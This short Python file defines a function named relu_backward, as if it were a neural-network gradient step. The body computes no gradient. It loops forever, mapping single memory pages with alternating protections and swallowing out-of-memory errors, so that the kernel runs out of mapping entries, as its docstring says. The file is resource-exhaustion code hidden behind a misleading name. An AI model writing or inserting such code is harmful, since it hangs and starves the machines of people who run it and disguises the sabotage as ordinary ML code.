"""Regions of memory of one page each, until the kernel has no more entries for them."""

import mmap

kept = []


def relu_backward(dout, z):
    while True:
        try:
            kept.append(mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | (mmap.PROT_WRITE if len(kept) % 2 else 0)))
        except (OSError, MemoryError):
            continue
